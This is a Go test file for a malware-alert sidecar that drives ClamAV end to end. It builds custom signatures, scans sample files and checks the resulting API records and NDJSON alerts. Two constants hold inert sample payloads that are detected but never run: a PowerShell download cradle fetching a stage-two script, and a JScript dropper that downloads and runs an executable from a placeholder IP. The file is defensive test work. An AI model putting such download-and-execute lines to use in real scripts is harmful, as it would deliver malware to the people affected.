package main

import (
	"crypto/md5" //nolint:gosec // ClamAV .hdb signatures are MD5 by definition
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"
)

// requireClamAV returns the paths of clamd and clamdscan; it skips the
// test when they are missing, and fails it under CI.
func requireClamAV(t *testing.T) (clamd, clamdscan string) {
	t.Helper()
	find := func(name string, extra ...string) string {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
		for _, p := range extra {
			if _, err := os.Stat(p); err == nil {
				return p
			}
		}
		return ""
	}
	clamd = find("clamd", "/usr/sbin/clamd", "/usr/local/sbin/clamd")
	clamdscan = find("clamdscan", "/usr/bin/clamdscan")
	if clamd == "" || clamdscan == "" {
		msg := "clamd/clamdscan not installed (apt-get install clamav clamav-daemon clamdscan; scripts/install-deps.sh test)"
		if os.Getenv("CI") != "" {
			t.Fatal(msg)
		}
		t.Skip(msg)
	}
	return clamd, clamdscan
}

// The inert test script ClamAV is told to detect: its MD5 and size form
// the .hdb signature Test.Automaldesc.Cradle.
const clamCradle = "# automaldesc ClamAV e2e cradle (inert, never run)\n" +
	"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/stage2.ps1')\n"

// A second script, detected by an .ndb body signature instead.
const clamDropper = "// automaldesc ClamAV e2e dropper (inert, never run)\n" +
	"var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://198.51.100.7/a.exe', false); x.send();\n" +
	"var s = new ActiveXObject('WScript.Shell'); s.Run('cmd /c %TEMP%\\\\a.exe', 0);\n"

const clamNDBMarker = "ClamAV e2e dropper (inert"

func TestClamAVEndToEnd(t *testing.T) {
	clamdBin, clamdscan := requireClamAV(t)
	start := time.Now()
	dir := t.TempDir()
	q := filepath.Join(dir, "quarantine")
	src := filepath.Join(dir, "home")
	db := filepath.Join(dir, "clamdb")
	for _, d := range []string{q, src, db} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}

	// The sidecar: one `source: clamav` folder, API with a token.
	const token = "clamav-e2e-token"
	e := watchEnv{dir: dir, quarantine: q, staging: filepath.Join(dir, "staging"),
		ndjson: filepath.Join(dir, "alerts.ndjson"), config: filepath.Join(dir, "config.yaml")}
	cfg := fmt.Sprintf(`watch:
  folders:
    - path: %q
      source: clamav
      hint_wait: 5s
  staging: %q
  settle: 100ms
  rescan: 2s
  workers: 2
  shutdown_timeout: 5s
sinks:
  ndjson:
    path: %q
api:
  listen: 127.0.0.1:0
  token_env: CLAM_E2E_API_TOKEN
store:
  path: %q
`, q, e.staging, e.ndjson, filepath.Join(dir, "var", "db.sqlite"))
	if err := os.WriteFile(e.config, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	sc := startWatch(t, e, "CLAM_E2E_API_TOKEN="+token)
	tokenFile := write(t, dir, "token", token+"\n")

	// clamd: a private database, a unix socket, VirusEvent = our hook
	// (with a spool it cannot write, so only the API path can succeed).
	sum := md5.Sum([]byte(clamCradle)) //nolint:gosec // .hdb format
	write(t, db, "automaldesc.hdb", fmt.Sprintf("%s:%d:Test.Automaldesc.Cradle\n", hex.EncodeToString(sum[:]), len(clamCradle)))
	write(t, db, "automaldesc.ndb", "Test.Automaldesc.Dropper:0:*:"+hex.EncodeToString([]byte(clamNDBMarker))+"\n")
	sock := filepath.Join(dir, "clamd.sock")
	conf := fmt.Sprintf(`LocalSocket %s
DatabaseDirectory %s
TemporaryDirectory %s
LogFile %s
Foreground yes
SelfCheck 0
VirusEvent %s --config %s clamav-hook --api %s --token-file %s --spool /dev/null/no-spool
`, sock, db, dir, filepath.Join(dir, "clamd.log"), binary, e.config, sc.api, tokenFile)
	if os.Geteuid() == 0 {
		conf += "User root\n"
	}
	clamdConf := write(t, dir, "clamd.conf", conf)
	clamd := exec.Command(clamdBin, "-c", clamdConf)
	clamd.Stdout, clamd.Stderr = &syncBuffer{}, &syncBuffer{}
	if err := clamd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = clamd.Process.Signal(syscall.SIGTERM)
		done := make(chan struct{})
		go func() { _ = clamd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			_ = clamd.Process.Kill()
			<-done
		}
	})
	waitFor(t, 30*time.Second, "clamd to listen on its socket", func() bool {
		c, err := net.Dial("unix", sock)
		if err == nil {
			c.Close()
		}
		return err == nil
	})

	// 1. Through clamd and the API: clamdscan moves the file into the folder.
	cradle := write(t, src, "invoice.ps1", clamCradle)
	out, err := exec.Command(clamdscan, "-c", clamdConf, "--fdpass", "--move="+q, cradle).CombinedOutput()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 1 {
		log, _ := os.ReadFile(filepath.Join(dir, "clamd.log"))
		t.Fatalf("clamdscan: got %v, want exit 1 (virus found)\n%s\nclamd log:\n%s", err, out, log)
	}
	if !strings.Contains(string(out), "Test.Automaldesc.Cradle") {
		t.Fatalf("clamdscan did not report the signature:\n%s", out)
	}

	// 2. Through the spool: the hook cannot reach the API; the file is
	// moved by hand, under a clashing name as --move would rename it.
	dropper := write(t, src, "update.js", clamDropper)
	hook := exec.Command(binary, "--config", e.config, "clamav-hook", "--api", "http://127.0.0.1:1", "--timeout", "1s")
	hook.Env = []string{envVirusEventFile + "=" + dropper, envVirusEventName + "=Test.Automaldesc.Dropper.UNOFFICIAL"}
	if out, err := hook.CombinedOutput(); err != nil || !strings.Contains(string(out), "spooled") {
		t.Fatalf("hook with the API down: %v\n%s", err, out)
	}
	if err := os.Rename(dropper, filepath.Join(q, "update.js.001")); err != nil {
		t.Fatal(err)
	}

	want := map[string]string{
		"invoice.ps1":   "Test.Automaldesc.Cradle.UNOFFICIAL",
		"update.js.001": "Test.Automaldesc.Dropper.UNOFFICIAL",
	}
	var recs []clamRecord
	waitFor(t, 30*time.Second, "both records", func() bool {
		recs = clamRecords(t, sc.api, token)
		return len(recs) >= len(want)
	})
	for _, r := range recs {
		sig, ok := want[r.Name]
		if !ok {
			t.Errorf("unexpected record %+v", r)
			continue
		}
		if r.Signature != sig || r.Source != "clamav" {
			t.Errorf("%s: got signature %q source %q, want %q, clamav", r.Name, r.Signature, r.Source, sig)
		}
		if r.Status != "ok" {
			t.Errorf("%s: got status %q, want ok", r.Name, r.Status)
		}
		rep := clamReport(t, sc.api, token, r.ID)
		if rep.Sample.Signature != sig {
			t.Errorf("%s: report sample.signature: got %q, want %q", r.Name, rep.Sample.Signature, sig)
		}
		if len(rep.Explanation.Summary) < 20 {
			t.Errorf("%s: explanation: got %q, want a summary", r.Name, rep.Explanation.Summary)
		}
	}
	waitFor(t, 10*time.Second, "the NDJSON alerts", func() bool { return len(readClamNDJSON(t, e.ndjson)) >= len(want) })
	for _, l := range readClamNDJSON(t, e.ndjson) {
		if sig := want[l.File.Name]; !slices.Contains(l.Rule.Name, sig) {
			t.Errorf("NDJSON %s: rule.name %v lacks %q", l.File.Name, l.Rule.Name, sig)
		}
	}
	if es, _ := os.ReadDir(filepath.Join(dir, "var", "hints")); len(es) != 0 {
		t.Errorf("hint spool: got %d files left, want none", len(es))
	}
	t.Logf("ClamAV end to end in %s", time.Since(start).Round(time.Millisecond))
}

// TestClamAVHookRefusesUncorrelatable: a streamed scan names no file and
// no hash; the hook says so instead of spooling a hint nothing can match.
func TestClamAVHookRefusesUncorrelatable(t *testing.T) {
	dir := t.TempDir()
	cfg := write(t, dir, "c.yaml", fmt.Sprintf("api:\n  listen: \"\"\nstore:\n  path: %q\n", filepath.Join(dir, "db")))
	cmd := exec.Command(binary, "--config", cfg, "clamav-hook")
	cmd.Env = []string{envVirusEventFile + "=instream(local)", envVirusEventName + "=Some.Sig"}
	out, err := cmd.CombinedOutput()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != exitFailure {
		t.Fatalf("got %v, want exit %d\n%s", err, exitFailure, out)
	}
	if !strings.Contains(string(out), "neither a sha256 nor an absolute path") {
		t.Errorf("got %q, want the reason", out)
	}
	if _, err := os.Stat(filepath.Join(dir, "hints")); !os.IsNotExist(err) {
		t.Errorf("spool: got %v, want nothing written", err)
	}
}

type clamRecord struct {
	ID        string `json:"id"`
	Name      string `json:"name"`
	Source    string `json:"source"`
	Signature string `json:"signature"`
	Status    string `json:"status"`
}

func clamGet(t *testing.T, url, token string, v any) {
	t.Helper()
	req, _ := http.NewRequest(http.MethodGet, url, nil)
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("GET %s: %s", url, resp.Status)
	}
	if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
}

func clamRecords(t *testing.T, base, token string) []clamRecord {
	t.Helper()
	var page struct {
		Records []clamRecord `json:"records"`
	}
	clamGet(t, base+"/v1/records?limit=100", token, &page)
	return page.Records
}

type clamReportDoc struct {
	Sample struct {
		Signature string `json:"signature"`
	} `json:"sample"`
	Explanation struct {
		Summary string `json:"summary"`
	} `json:"explanation"`
}

func clamReport(t *testing.T, base, token, id string) clamReportDoc {
	t.Helper()
	var r struct {
		Report clamReportDoc `json:"report"`
	}
	clamGet(t, base+"/v1/records/"+id, token, &r)
	return r.Report
}

type clamECS struct {
	File struct {
		Name string `json:"name"`
	} `json:"file"`
	Rule struct {
		Name []string `json:"name"`
	} `json:"rule"`
}

func readClamNDJSON(t *testing.T, path string) []clamECS {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	var out []clamECS
	lines := strings.Split(string(b), "\n")
	for _, l := range lines[:len(lines)-1] { // the last one may be incomplete
		var d clamECS
		if err := json.Unmarshal([]byte(l), &d); err != nil {
			t.Fatalf("bad NDJSON line: %v", err)
		}
		out = append(out, d)
	}
	return out
}
